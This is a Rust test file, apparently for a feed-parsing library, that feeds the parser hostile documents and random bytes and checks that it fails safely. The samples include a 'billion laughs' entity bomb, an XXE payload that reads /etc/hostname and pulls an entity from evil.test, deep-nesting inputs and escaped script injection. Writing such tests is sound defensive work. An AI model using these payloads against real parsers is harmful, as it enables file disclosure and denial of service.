//! Documents made to hurt, and any bytes at all: an error or a sound listing, and never for long.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::sync::LazyLock;

use proptest::prelude::*;
use watchfloor_feed::archive::{Lines, Warc};
use watchfloor_feed::{
    FeedError, Listing, Selectors, Told, discover, invariants, list, parse,
};

const TOLD: Told<'static> =
    Told { content_type: None, address: Some("https://lothmar.test/feed.xml") };

/// Everything the crate can be asked of some bytes.
fn all_of(bytes: &[u8]) {
    for listing in [parse(bytes, &TOLD), list(bytes, &Selectors::default(), &TOLD)]
        .into_iter()
        .flatten()
    {
        let faults = invariants::check(&listing);
        assert!(faults.is_empty(), "{faults:?}");
    }
    discover(bytes, &TOLD);
    assert!(Warc::new(bytes).take(1_000).count() < 1_000);
    assert!(Lines::new(bytes).count() <= bytes.len());
}

fn sound(bytes: &[u8]) -> Listing {
    let listing = parse(bytes, &TOLD).unwrap();
    assert_eq!(invariants::check(&listing), Vec::<String>::new());
    listing
}

fn notes_of(listing: &Listing) -> String {
    listing.notes.join("\n")
}

#[test]
fn entities_are_never_expanded() {
    let mut laughs = String::from("<!DOCTYPE rss [<!ENTITY a0 \"ha\">");
    for n in 1..12 {
        let ten = format!("&a{};", n - 1).repeat(10);
        laughs.push_str(&format!("<!ENTITY a{n} \"{ten}\">"));
    }
    laughs.push_str(
        "]><rss><channel><item><guid>1</guid><title>&a11;</title></item></channel></rss>",
    );
    assert_eq!(sound(laughs.as_bytes()).items[0].title, "&a11;");
    let file = b"<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/hostname\"><!ENTITY % p SYSTEM 'http://evil.test/'>%p;]>
        <feed><entry><id>1</id><title>&x;</title></entry></feed>";
    assert_eq!(sound(file).items[0].title, "&x;");
    let alert = b"<!DOCTYPE alert [<!ENTITY a \"x\">]><alert xmlns='urn:oasis:names:tc:emergency:cap:1.2'><identifier>&a;</identifier></alert>";
    assert!(matches!(parse(alert, &TOLD), Err(FeedError::Doctype { .. })));
}

#[test]
fn deep_nesting_is_cut_off() {
    let deep = "<a>".repeat(200_000);
    let document = format!(
        "<rss><channel><item><guid>1</guid><title>x{deep}y</title></item></channel></rss>"
    );
    let listing = sound(document.as_bytes());
    assert!(notes_of(&listing).contains("too deep"));
    all_of(deep.as_bytes());
    all_of("[".repeat(100_000).as_bytes());
    all_of(format!("{{\"items\": {}", "[".repeat(100_000)).as_bytes());
    all_of("<div>".repeat(100_000).as_bytes());
}

#[test]
fn attributes_without_end_are_cut_off() {
    let many: String = (0..100_000).map(|n| format!(" a{n}='x'")).collect();
    let huge = "x".repeat(4_000_000);
    for attributes in
        [many, format!(" a='{huge}'"), format!(" a='{huge}"), format!(" {huge}")]
    {
        let document = format!(
            "<rss><channel{attributes}><item><guid>1</guid><title>One</title></item></channel></rss>"
        );
        all_of(document.as_bytes());
    }
    let prefixes: String =
        (0..50_000).map(|n| format!("<p{n}:a xmlns:p{n}='u{n}'/>")).collect();
    all_of(
        format!(
            "<rss><channel>{prefixes}<item><title>One</title></item></channel></rss>"
        )
        .as_bytes(),
    );
}

#[test]
fn of_a_hundred_thousand_items_the_first_are_read() {
    let items: String = (0..100_000)
        .map(|n| format!("<item><guid>{n}</guid><title>Item {n}</title></item>"))
        .collect();
    let listing = sound(format!("<rss><channel>{items}</channel></rss>").as_bytes());
    assert_eq!(listing.items.len(), 2_000);
    assert_eq!(listing.items[1_999].title, "Item 1999");
    assert!(notes_of(&listing).contains("more than 2,000 items"));
    let items: Vec<String> =
        (0..100_000).map(|n| format!("{{\"id\": {n}, \"title\": \"x\"}}")).collect();
    let feed = format!(
        "{{\"version\": \"https://jsonfeed.org/version/1\", \"items\": [{}]}}",
        items.join(",")
    );
    assert_eq!(sound(feed.as_bytes()).items.len(), 2_000);
}

#[test]
fn what_never_ends_is_ended() {
    for piece in [
        "<![CDATA[",
        "<!--",
        "<?x",
        "<!DOCTYPE [",
        "<a b='",
        "</",
        "<",
        "&",
        "&#",
        "]]>",
        "<item>",
        "<br",
        "<a b=\"c",
    ] {
        let body = piece.repeat(300_000 / piece.len());
        let document = format!(
            "<rss><channel><item><guid>1</guid><title>One</title></item>\
             <item><guid>2</guid><title>Two</title><description>{body}"
        );
        let listing = sound(document.as_bytes());
        assert!(!listing.items.is_empty(), "{piece}");
        assert_eq!(listing.items[0].title, "One", "{piece}");
        all_of(body.as_bytes());
    }
}

#[test]
fn a_huge_text_is_cut_with_a_note() {
    let words = "word ".repeat(1_000_000);
    let document = format!(
        "<rss><channel><item><guid>1</guid><title>{words}</title><description>{words}</description></item></channel></rss>"
    );
    let item = sound(document.as_bytes()).items.remove(0);
    assert!(item.title.len() <= 2_000);
    assert!(item.body.unwrap().words().len() <= 1_000_000);
    assert!(item.notes.contains(&"too long: cut".to_owned()));
}

#[test]
fn a_body_is_not_sanitised_but_its_words_hold_no_script() {
    let document = b"<rss><channel><item><guid>1</guid><title>&lt;script&gt;evil()&lt;/script&gt;One</title><description>&lt;p onclick='evil()'&gt;Two&lt;script&gt;evil()&lt;/script&gt;</description></item></channel></rss>";
    let item = sound(document).items.remove(0);
    assert_eq!(item.title, "One");
    assert_eq!(item.body.unwrap().words(), "Two");
}

/// The documents of the suites, as something to start mutations from.
static SEEDS: LazyLock<Vec<String>> = LazyLock::new(|| {
    let folder = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/suites");
    let mut seeds = Vec::new();
    for entry in std::fs::read_dir(folder).unwrap() {
        let suite = std::fs::read_to_string(entry.unwrap().path()).unwrap();
        let fences = suite.split("\n```").skip(1).step_by(2);
        seeds.extend(
            fences.filter_map(|fence| Some(fence.split_once('\n')?.1.to_owned())),
        );
    }
    seeds.sort();
    seeds
});

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn any_bytes_give_an_error_or_a_sound_listing(bytes in proptest::collection::vec(any::<u8>(), 0..600)) {
        all_of(&bytes);
    }

    #[test]
    fn any_markup_gives_an_error_or_a_sound_listing(
        pieces in proptest::collection::vec(prop::sample::select(vec![
            "<rss>", "<channel>", "<item>", "</item>", "<title>", "</title>", "<link>", "</link>", "<feed>",
            "<entry>", "</entry>", "<a:b", " xmlns:a='u'", " xml:base='x:/'", " xmlns=''", ">", "/>", "<", "&amp;", "&", "<![CDATA[", "]]>",
            "<!--", "-->", "<!DOCTYPE x [", "]>", "<?xml", "?>", "\"", "'", "=", " ", "http://a.test/", "1", "é",
            "<guid>", "</guid>", "<alert>", "<identifier>", "<sender>", "<info>", "<rdf:RDF>", "<xml:a>", "<xmlns:a>", " xmlns:xml='u'", " rdf:about='1'", "\u{0}", "\u{ffff}", "<a href=", "</a>", "<div class='x'>",
        ]), 0..80)
    ) {
        all_of(pieces.concat().as_bytes());
    }

    #[test]
    fn mutated_documents_give_an_error_or_a_sound_listing(
        seed in any::<prop::sample::Index>(),
        cuts in proptest::collection::vec((any::<prop::sample::Index>(), 0_usize..40, any::<Option<u8>>()), 1..6),
    ) {
        let mut bytes = seed.get(&SEEDS).clone().into_bytes();
        for (place, length, put) in cuts {
            if bytes.is_empty() {
                break;
            }
            let from = place.index(bytes.len());
            let to = (from + length).min(bytes.len());
            bytes.splice(from..to, put);
        }
        all_of(&bytes);
    }
}
